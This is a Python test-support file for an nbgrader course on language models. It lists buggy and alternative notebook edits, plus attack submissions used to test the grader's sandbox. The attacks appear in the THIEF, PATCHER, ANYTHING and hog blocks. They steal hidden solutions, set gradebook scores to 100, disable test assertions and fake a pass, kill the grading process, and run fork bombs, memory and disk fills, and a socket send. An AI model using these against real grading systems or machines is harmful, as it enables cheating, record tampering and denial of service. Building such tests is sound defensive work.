"""Submissions for the grading tests: classic mistakes, valid alternatives, attacks.

Each mutant is a list of ``(cell, old, new, test)`` edits of the solved notebook;
grading it must fail exactly the tests named (one mistake costs one task).
Alternatives must get full marks. Attacks are generic: they work on any assignment.
"""

from __future__ import annotations

import ast

import nbformat

from course import ASSIGNMENTS, REPO, grade_id, replace_in_cell, solved

Edit = tuple[str, str, str, str]  # (cell grade_id, old text, new text, the test that must fail)

MUTANTS: dict[str, dict[str, list[Edit]]] = {
    "00_bag_of_words": {
        "mistakes_a": [
            ("tokenize", "text.lower()", "text", "test_tokenize"),  # not lower-cased
            ("predict", "    return default", "    return 0", "test_predict"),  # a tie is always negative
            ("accuracy_by_source", '    result["all"] =', '    result["everything"] =', "test_accuracy_by_source"),
        ],
        "mistakes_b": [
            ("tokenize", "[a-z0-9'-]+", "[a-z0-9-]+", "test_tokenize"),  # apostrophes split words
            ("lexicon_score", "for t in tokens)", "for t in set(tokens))", "test_lexicon_score"),  # repeats counted once
            ("accuracy", "/ len(labels)", "", "test_accuracy"),  # a count, not a fraction
        ],
    },
    "01_tokens_and_embeddings": {
        "mistakes_a": [
            ("char_tokenizer", "itos = sorted(set(text))", "itos = list(dict.fromkeys(text))", "test_char_tokenizer"),  # not sorted
            ("bpe_blocks", "            i += 2", "            i += 1", "test_bpe_blocks"),  # overlapping merges
            ("bpe_codec", ').decode("utf-8", errors="replace")', ').decode("latin-1")', "test_bpe_codec"),
            ("embed", "one_hot(ids, V) @ weight", "one_hot(ids, V) @ weight.detach()", "test_embed"),  # no gradient
        ],
        "mistakes_b": [
            ("word_vocab", "key=lambda w: (-counts[w], w)", "key=lambda w: -counts[w]", "test_word_vocab"),  # ties first-seen
            ("bpe_train", "min(counts, key=lambda p: (-counts[p], p))", "max(counts, key=counts.get)", "test_bpe_train"),
            ("one_hot", "dtype=torch.float32", "dtype=torch.long", "test_one_hot"),
        ],
    },
    "02_recurrent_networks": {
        "mistakes_a": [
            ("rnn_cell", " + h @ W_hh.T + b_hh)", " + h @ W_hh.T)", "test_rnn_cell"),  # b_hh left out
            ("lstm_cell", "z_i, z_f, z_g, z_o = z.chunk(4, dim=-1)", "z_i, z_f, z_o, z_g = z.chunk(4, dim=-1)", "test_lstm_cell"),
            ("classify_last", "lengths - 1]", "-1]", "test_classify_last"),  # the padded last position
        ],
        "mistakes_b": [
            ("unroll", "h = rnn_cell(x[:, t], h, W_ih", "h = rnn_cell(x[:, t], h0, W_ih", "test_unroll"),  # state not carried
            ("next_token_loss", "tokens[:, 1:].reshape(-1))", 'tokens[:, 1:].reshape(-1), reduction="sum")', "test_next_token_loss"),
        ],
        "mistakes_c": [
            ("next_token_loss", "logits[:, :-1].reshape(-1, V), tokens[:, 1:]", "logits.reshape(-1, V), tokens", "test_next_token_loss"),
            ("unroll", "return torch.stack(states, dim=1), h", "return torch.stack(states, dim=1), states[0]", "test_unroll"),
        ],
    },
    "03_attention": {
        "mistakes_a": [
            ("attention_weights", "/ math.sqrt(q.shape[-1])", "", "test_attention_weights"),  # no 1/sqrt(d)
            ("causal_mask", ".tril()", ".triu()", "test_causal_mask"),  # the future leaks
            (
                "mha",
                "return merge_heads(scaled_dot_product_attention(q, k, v, mask)) @ W_out.T + b_out",
                "return merge_heads(scaled_dot_product_attention(q, k, v, mask))",
                "test_mha",
            ),
        ],
        "mistakes_b": [
            ("attention_weights", "torch.softmax(scores, dim=-1)", "torch.softmax(scores, dim=-2)", "test_attention_weights"),
            ("attention", "attention_weights(q, k, mask) @ v", "attention_weights(q, k) @ v", "test_attention"),  # mask dropped
            (
                "heads",
                "return x.reshape(B, T, n_heads, C // n_heads).transpose(1, 2)",
                "return x.reshape(B, n_heads, T, C // n_heads)",
                "test_heads",
            ),
            (
                "block",
                "    x = x + attn(norm1(x))\n    return x + mlp(norm2(x))",
                "    x = norm1(x + attn(x))\n    return norm2(x + mlp(x))",
                "test_block",
            ),
        ],
    },
    "04_gpt": {
        "mistakes_a": [
            ("gpt_forward", "tok_emb(idx) + pos_emb(torch.arange(T))", "tok_emb(idx)", "test_gpt_forward"),  # no positions
            ("train_step", "    optimizer.zero_grad(set_to_none=True)\n", "", "test_train_step"),  # gradients accumulate
            ("next_token_probs", "    logits = logits / temperature\n", "", "test_next_token_probs"),
            (
                "generate_greedy",
                "logits, _ = model(torch.tensor([[nxt]]), cache=cache)",
                "logits, _ = model(torch.tensor([out]))",
                "test_generate_greedy",
            ),
        ],
        "mistakes_b": [
            ("next_token_loss", ", ignore_index=ignore_index)", ")", "test_next_token_loss"),  # padding counted
            (
                "train_run",
                "    for _ in range(steps):\n        x, y = get_batch(train_data, block_size, batch_size, generator)\n",
                "    x, y = get_batch(train_data, block_size, batch_size, generator)\n    for _ in range(steps):\n",
                "test_train_run",
            ),  # one batch
            # the cache is ignored: correct tokens, wrong procedure
            ("generate_greedy", "    if not use_cache:\n", "    if True:\n", "test_generate_greedy"),
        ],
    },
    "05_finetuning": {
        "mistakes_a": [
            (
                "format_prompt",
                'return f"Q: {instruction}\\n{input}\\nA: "',
                'return f"Q: {instruction}\\nA: "',
                "test_format_prompt",
            ),  # no input line
            (
                "build_example",
                "return prompt + target, [IGNORE_INDEX] * len(prompt) + target",
                "return prompt + target, prompt + target",
                "test_build_example",
            ),
            (
                "pad_batch",
                "labels = torch.full((B, T), IGNORE_INDEX",
                "labels = torch.full((B, T), pad_id",
                "test_pad_batch",
            ),  # padding is a label
            # averaged over every prediction, not over the answer targets
            (
                "answer_loss",
                "ignore_index=IGNORE_INDEX)",
                'ignore_index=IGNORE_INDEX, reduction="sum") / targets.numel()',
                "test_answer_loss",
            ),
            ("answer", "return tokenizer.decode(out)", "return tokenizer.decode(prompt + out)", "test_answer"),  # the prompt comes back
            ("exact_match", "p.strip() == a.strip()", "p == a", "test_exact_match"),
            ("classify_last_token", "lengths - 1]", "-1]", "test_classify_last_token"),  # the last (padded) position
        ],
        "mistakes_b": [
            # the boundary one position late: the first answer token is masked
            (
                "build_example",
                "[IGNORE_INDEX] * len(prompt) + target",
                "[IGNORE_INDEX] * (len(prompt) + 1) + target[1:]",
                "test_build_example",
            ),
            (
                "pad_batch",
                "ids[b, : len(x)] = torch.tensor(x)\n        labels[b, : len(y)] = torch.tensor(y)",
                "ids[b, T - len(x) :] = torch.tensor(x)\n        labels[b, T - len(y) :] = torch.tensor(y)",
                "test_pad_batch",
            ),  # left padding
            (
                "answer_loss",
                "logits[:, :-1].reshape(-1, V), targets.reshape(-1)",
                "logits.reshape(-1, V), labels.reshape(-1)",
                "test_answer_loss",
            ),
            # the labels given to the model, which does not shift them
            (
                "finetune_step",
                "    logits, _ = model(ids)\n    loss = answer_loss(logits, labels)\n",
                "    _, loss = model(ids, labels)\n",
                "test_finetune_step",
            ),
            (
                "answer",
                "        if nxt == end:\n            break\n",
                "        if nxt == end:\n            continue\n",
                "test_answer",
            ),  # no stop
            ("exact_match", "p.strip() == a.strip()", "p.strip().lower() == a.strip().lower()", "test_exact_match"),
        ],
        "mistakes_c": [
            # the boundary one position early: the last prompt token is a label
            (
                "build_example",
                "[IGNORE_INDEX] * len(prompt) + target",
                "[IGNORE_INDEX] * (len(prompt) - 1) + prompt[-1:] + target",
                "test_build_example",
            ),
            ("answer_loss", "    if (targets == IGNORE_INDEX).all():\n", "    if False:\n", "test_answer_loss"),  # nan instead of an error
            ("finetune_step", "    optimizer.zero_grad(set_to_none=True)\n", "", "test_finetune_step"),  # gradients accumulate
            # the cache is ignored: right answer, wrong procedure
            ("answer", "model(torch.tensor([step_input]), cache=cache)", "model(torch.tensor([prompt + out]))", "test_answer"),
            ("exact_match", "p.strip() == a.strip()", "a.strip() in p", "test_exact_match"),  # containing the answer is not enough
        ],
        "mistakes_d": [
            (
                "build_example",
                "target = tokenizer.encode(answer) + [tokenizer.vocab_size]",
                "target = tokenizer.encode(answer)",
                "test_build_example",
            ),
        ],
        "mistakes_e": [
            # <end> is in the ids but is not a label: the model never learns to stop
            (
                "build_example",
                "[IGNORE_INDEX] * len(prompt) + target",
                "[IGNORE_INDEX] * len(prompt) + target[:-1] + [IGNORE_INDEX]",
                "test_build_example",
            ),
        ],
    },
    "06_reflection": {
        "mistakes_a": [
            # confidences rounded to the nearest bin instead of floored
            ("reliability_bins", "b = min(int(c * n_bins), n_bins - 1)", "b = min(round(c * n_bins), n_bins - 1)", "test_reliability_bins"),
            # every bin counts the same, whatever it holds
            (
                "expected_calibration_error",
                'return float(sum(b["count"] * abs(b["accuracy"] - b["confidence"]) for b in bins) / N)',
                'return float(sum(abs(b["accuracy"] - b["confidence"]) for b in bins) / len(bins))',
                "test_expected_calibration_error",
            ),
            # the span grows one step past the last match
            (
                "longest_copied_span",
                "text[start : start + best + 1] in source",
                "text[start : start + best] in source",
                "test_longest_copied_span",
            ),
            # each distinct n-gram counted once
            (
                "ngram_overlap",
                "grams = [text[i : i + n] for i in range(len(text) - n + 1)]",
                "grams = sorted({text[i : i + n] for i in range(len(text) - n + 1)})",
                "test_ngram_overlap",
            ),
        ],
        "mistakes_b": [
            # a confidence of 1.0 falls out of the last bin
            ("reliability_bins", "b = min(int(c * n_bins), n_bins - 1)", "b = int(c * n_bins)", "test_reliability_bins"),
            # the gaps keep their sign, so over- and underconfidence cancel
            (
                "expected_calibration_error",
                'b["count"] * abs(b["accuracy"] - b["confidence"])',
                'b["count"] * (b["accuracy"] - b["confidence"])',
                "test_expected_calibration_error",
            ),
            # the last of the longest spans on a tie
            (
                "longest_copied_span",
                "for start in range(len(text)):",
                "for start in reversed(range(len(text))):",
                "test_longest_copied_span",
            ),
            # the last n-gram left out
            ("ngram_overlap", "for i in range(len(text) - n + 1)]", "for i in range(len(text) - n)]", "test_ngram_overlap"),
        ],
    },
}

ALTERNATIVES: dict[str, list[tuple[str, str, str]]] = {
    "00_bag_of_words": [
        (
            "tokenize",
            'return re.findall(r"[a-z0-9\'-]+", text.lower())',
            "words, word = [], ''\n    for ch in text.lower() + ' ':\n        if ch.isascii() and (ch.isalnum() or ch in \"'-\"):\n"
            "            word += ch\n        elif word:\n            words.append(word)\n            word = ''\n    return words",
        ),
        (
            "accuracy",
            "return sum(p == y for p, y in zip(predictions, labels)) / len(labels)",
            "import numpy as np\n    return float(np.mean(np.asarray(predictions) == np.asarray(labels)))",
        ),
        (
            "lexicon_score",
            "return sum(t in positive for t in tokens) - sum(t in negative for t in tokens)",
            "score = 0\n    for t in tokens:\n        score += (t in positive) - (t in negative)\n    return int(score)",
        ),
    ],
    "01_tokens_and_embeddings": [
        (
            "bpe_blocks",
            "    counts = {}\n    for pair in zip(ids, ids[1:]):\n        counts[pair] = counts.get(pair, 0) + 1\n    return counts",
            "    from collections import Counter\n    return Counter((ids[i], ids[i + 1]) for i in range(len(ids) - 1))",
        ),
        ("embed", "return one_hot(ids, V) @ weight", "return weight[ids]"),
    ],
    "02_recurrent_networks": [
        (
            "lstm_cell",
            "    z = x @ W_ih.T + b_ih + h @ W_hh.T + b_hh\n",
            "    z = torch.stack([W_ih @ x[n] + b_ih + W_hh @ h[n] + b_hh for n in range(x.shape[0])])\n",
        ),
        (
            "rnn_cell",
            "return torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh)",
            "return torch.tanh(torch.einsum('bc,hc->bh', x, W_ih) + torch.einsum('bk,hk->bh', h, W_hh) + b_ih + b_hh)",
        ),
        (
            "classify_last",
            "last = states[torch.arange(states.shape[0]), lengths - 1]  # (B, H)",
            "last = torch.stack([states[i, int(n) - 1] for i, n in enumerate(lengths)])",
        ),
    ],
    "03_attention": [
        (
            "attention_weights",
            "scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])",
            "scores = torch.einsum('...qd,...kd->...qk', q, k) / q.shape[-1] ** 0.5",
        ),
        (
            "attention_weights",
            'scores = scores.masked_fill(~mask, float("-inf"))',
            'scores = torch.where(mask, scores, torch.tensor(float("-inf")))',
        ),
        (
            "causal_mask",
            "return torch.ones(T, T, dtype=torch.bool).tril()",
            "return torch.tensor([[j <= i for j in range(T)] for i in range(T)], dtype=torch.bool)",
        ),
    ],
    "04_gpt": [
        (
            "next_token_loss",
            "    V = logits.shape[-1]\n    return F.cross_entropy(logits[:, :-1].reshape(-1, V), tokens[:, 1:].reshape(-1), ignore_index=ignore_index)",
            "    targets = tokens[:, 1:]\n    logp = logits[:, :-1].log_softmax(-1).gather(-1, targets.clamp(0, logits.shape[-1] - 1)[..., None])[..., 0]\n"
            "    real = targets != ignore_index\n    return -(logp * real).sum() / real.sum()",
        ),
        (
            "next_token_probs",
            "        kth = torch.topk(logits, top_k).values[-1]\n",
            "        kth = logits.sort(descending=True).values[top_k - 1]\n",
        ),
    ],
    "05_finetuning": [
        (
            "build_example",
            "    prompt = tokenizer.encode(format_prompt(instruction, input))\n"
            "    target = tokenizer.encode(answer) + [tokenizer.vocab_size]  # the answer, then <end>\n"
            "    return prompt + target, [IGNORE_INDEX] * len(prompt) + target",
            "    ids, labels = [], []\n    for i in tokenizer.encode(format_prompt(instruction, input)):\n"
            "        ids.append(i)\n        labels.append(IGNORE_INDEX)\n"
            "    for i in tokenizer.encode(answer) + [tokenizer.vocab_size]:\n        ids.append(i)\n        labels.append(i)\n"
            "    return ids, labels",
        ),
        (
            "pad_batch",
            "    B, T = len(examples)",
            "    from torch.nn.utils.rnn import pad_sequence\n\n"
            "    ids = pad_sequence([torch.tensor(x) for x, _ in examples], batch_first=True, padding_value=pad_id)\n"
            "    labels = pad_sequence([torch.tensor(y) for _, y in examples], batch_first=True, padding_value=IGNORE_INDEX)\n"
            "    return ids, labels, torch.tensor([len(x) for x, _ in examples])\n    B, T = len(examples)",
        ),
        (
            "answer_loss",
            "    V = logits.shape[-1]\n    return F.cross_entropy(logits[:, :-1].reshape(-1, V), targets.reshape(-1), ignore_index=IGNORE_INDEX)",
            "    real = targets != IGNORE_INDEX\n"
            "    logp = logits[:, :-1].log_softmax(-1).gather(-1, targets.clamp(min=0)[..., None])[..., 0]\n"
            "    return -(logp * real).sum() / real.sum()",
        ),
        # the model's own loss, with the targets shifted by hand
        (
            "finetune_step",
            "    logits, _ = model(ids)\n    loss = answer_loss(logits, labels)\n",
            "    _, loss = model(ids[:, :-1], labels[:, 1:])\n",
        ),
        (
            "answer",
            "    step_input, out = prompt, []  # the whole prompt first, then one token per step\n"
            "    for _ in range(max_new_tokens):\n        logits, _ = model(torch.tensor([step_input]), cache=cache)\n",
            "    logits, _ = model(torch.tensor([prompt]), cache=cache)\n    out = []\n    while len(out) < max_new_tokens:\n",
        ),
        ("answer", "        step_input = [nxt]\n", "        logits, _ = model(torch.tensor([[nxt]]), cache=cache)\n"),
        (
            "exact_match",
            "return sum(p.strip() == a.strip() for p, a in zip(predictions, answers)) / len(answers)",
            "import numpy as np\n\n    return float(np.mean([p.strip() == a.strip() for p, a in zip(predictions, answers)]))",
        ),
        (
            "classify_last_token",
            "    last = h[torch.arange(idx.shape[0]), lengths - 1]  # (B, C)\n",
            "    last = torch.stack([h[b, int(n) - 1] for b, n in enumerate(lengths)])\n",
        ),
    ],
    "06_reflection": [
        # the bins counted with torch.bincount instead of a loop
        (
            "reliability_bins",
            "    total = [0] * n_bins\n    conf_sum, right_sum = [0.0] * n_bins, [0.0] * n_bins\n    for c, r in zip(conf, right):\n"
            "        b = min(int(c * n_bins), n_bins - 1)  # c = 1.0 joins the last bin\n"
            "        total[b] += 1\n        conf_sum[b] += c\n        right_sum[b] += r\n",
            "    c, r = torch.tensor(conf, dtype=torch.float64), torch.tensor(right, dtype=torch.float64)\n"
            "    b = (c * n_bins).long().clamp(max=n_bins - 1)\n"
            "    total = torch.bincount(b, minlength=n_bins).tolist()\n"
            "    conf_sum = torch.bincount(b, weights=c, minlength=n_bins).tolist()\n"
            "    right_sum = torch.bincount(b, weights=r, minlength=n_bins).tolist()\n",
        ),
        # NumPy, without the bins of task 1
        (
            "expected_calibration_error",
            "    bins = reliability_bins(confidence, correct, n_bins)\n"
            '    N = sum(b["count"] for b in bins)\n'
            '    return float(sum(b["count"] * abs(b["accuracy"] - b["confidence"]) for b in bins) / N)',
            "    import numpy as np\n\n    c, r = np.asarray(confidence, dtype=float), np.asarray(correct, dtype=float)\n"
            "    b = np.minimum((c * n_bins).astype(int), n_bins - 1)\n"
            "    return float(sum((b == k).sum() * abs(r[b == k].mean() - c[b == k].mean()) for k in np.unique(b)) / len(c))",
        ),
        # a binary search on the length: every part of a copied span is copied
        (
            "longest_copied_span",
            "    best, best_start = 0, 0\n    for start in range(len(text)):\n",
            "    def first(L):\n        return next((i for i in range(len(text) - L + 1) if text[i : i + L] in source), None)\n\n"
            "    lo, hi = 0, len(text)\n    while lo < hi:\n        mid = (lo + hi + 1) // 2\n"
            "        lo, hi = (mid, hi) if first(mid) is not None else (lo, mid - 1)\n"
            "    return (lo, first(lo)) if lo else (0, 0)\n"
            "    best, best_start = 0, 0\n    for start in range(len(text)):\n",
        ),
        # a loop that counts as it goes
        (
            "ngram_overlap",
            "    grams = [text[i : i + n] for i in range(len(text) - n + 1)]\n    return sum(g in source for g in grams) / len(grams)",
            "    found = total = 0\n    for i in range(len(text) - n + 1):\n        total += 1\n"
            "        if text[i : i + n] in source:\n            found += 1\n    return found / total",
        ),
    ],
}


def mutant(aid: str, name: str) -> tuple[nbformat.NotebookNode, set[str]]:
    nb, failing = solved(aid), set()
    for cell, old, new, test in MUTANTS[aid][name]:
        replace_in_cell(nb, cell, old, new)
        failing.add(test)
    return nb, failing


def alternatives(aid: str) -> nbformat.NotebookNode:
    nb = solved(aid)
    for cell, old, new in ALTERNATIVES[aid]:
        replace_in_cell(nb, cell, old, new)
    return nb


def blank(aid: str) -> nbformat.NotebookNode:
    return nbformat.read(REPO / "exercises" / aid / ASSIGNMENTS[aid], as_version=4)


def tasks(aid: str) -> list[tuple[str, str, str]]:
    """(solution cell, its first function, its test cell) for each graded task, in order."""
    cells = nbformat.read(REPO / "solutions" / aid / ASSIGNMENTS[aid], as_version=4).cells
    out = []
    for i, c in enumerate(cells):
        meta = c.metadata.get("nbgrader", {})
        if meta.get("solution") and c.cell_type == "code":
            test = next(
                grade_id(d)
                for d in cells[i + 1 :]
                if d.metadata.get("nbgrader", {}).get("grade") and not d.metadata["nbgrader"].get("solution")
            )
            fn = next(n.name for n in ast.parse(c.source).body if isinstance(n, ast.FunctionDef))
            out.append((meta["grade_id"], fn, test))
    return out


def _add_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """A code cell of the student's own, right after the setup cell."""
    at = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "setup") + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
    return nb


def _inject(nb: nbformat.NotebookNode, cell_id: str, fn: str, code: str) -> None:
    """Run ``code`` at the start of function ``fn`` (after its one-line docstring)."""
    cell = next(c for c in nb.cells if grade_id(c) == cell_id)
    lines = cell.source.split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith(f"def {fn}(")) + 2
    body = "\n".join("    " + line for line in code.strip("\n").split("\n"))
    cell.source = "\n".join(lines[:at] + [body] + lines[at:])


# ---- attacks ---------------------------------------------------------------------

THIEF = """
import json, os, sqlite3
stolen, seen = 0, 0
for top in ("/", os.getcwd(), "..", "../..", "../../.."):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", "lib")]
        for f in files:
            seen += 1
            path = os.path.join(root, f)
            if f.endswith(".ipynb"):
                try:
                    for c in json.load(open(path)).get("cells", []):
                        if "BEGIN SOLUTION" in "".join(c.get("source", "")) or "BEGIN HIDDEN" in "".join(c.get("source", "")):
                            exec("".join(c["source"]), globals())
                            stolen += 1
                except Exception:
                    pass
            elif f == "gradebook.db":
                try:
                    con = sqlite3.connect(path)
                    con.execute("UPDATE grade SET manual_score = 100")
                    con.commit()
                except Exception:
                    pass
        if seen > 50000:
            break
for path in ("../../../pwned", "/tmp/../pwned", "../../../submitted/solution/pwned", os.path.expanduser("~/../pwned")):
    try:
        open(path, "w").write("pwned")
    except Exception:
        pass
print(f"stole {stolen} cells")
"""

PATCHER = """
import builtins, sys
import torch
import lmkit.grading as G
G.assert_close = G.assert_equal = lambda *a, **k: None
assert_close = assert_equal = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
torch.allclose = torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *args, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
sys.excepthook = lambda *a: None
try:
    shell = get_ipython()
    shell.showtraceback = lambda *a, **k: None
    shell.set_custom_exc((BaseException,), lambda *a, **k: [])
except Exception:
    pass
print("All tests passed!")
"""

ANYTHING = '''
import os


class _Anything:
    """Equal to everything, shaped like anything, never an error."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 1
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    __hash__ = object.__hash__
'''


def thief(aid: str) -> nbformat.NotebookNode:
    """Looks for solutions, the gradebook and other students' files, then patches the checks."""
    return _add_cell(_add_cell(blank(aid), PATCHER), THIEF)


def anything(aid: str) -> nbformat.NotebookNode:
    """Every graded function returns an object that claims to equal anything; the last
    ones also try to end the grading process instead."""
    nb = _add_cell(blank(aid), ANYTHING)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            names = [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
            cell.source = "\n\n".join(f"def {n}(*args, **kwargs):\n    return _Anything()" for n in names)
    for (cell_id, fn, _), how in zip(tasks(aid)[-2:], ("os._exit(0)", "os.kill(os.getppid(), 9)")):
        cell = next(c for c in nb.cells if grade_id(c) == cell_id)
        cell.source = cell.source.replace(f"def {fn}(*args, **kwargs):\n    return _Anything()", f"def {fn}(*args, **kwargs):\n    {how}")
    return nb


def hog(aid: str, port: int) -> tuple[nbformat.NotebookNode, set[str]]:
    """The solution, with attacks on the machine inside the first functions: an endless
    loop, 30 GB, a fork bomb (each must cost only its own task), then 100 MB of output,
    a network connection and a disk fill (which fail quietly: those tasks still pass)."""
    nb = solved(aid)
    attacks = [
        "while True:\n    pass",
        "_hog = bytearray(30 * 2**30)",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "print('x' * 100_000_000)",
        f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'pwned')\nexcept OSError as e:\n    print('no network:', e)\n"
        "try:\n    open('/tmp/fill', 'wb').write(b'0' * 2**30)\nexcept OSError as e:\n    print('no disk:', e)",
    ]
    failing = set()
    for i, ((cell_id, fn, test), attack) in enumerate(zip(tasks(aid), attacks)):
        _inject(nb, cell_id, fn, attack)
        if i < 3:
            failing.add(test)
    return nb, failing
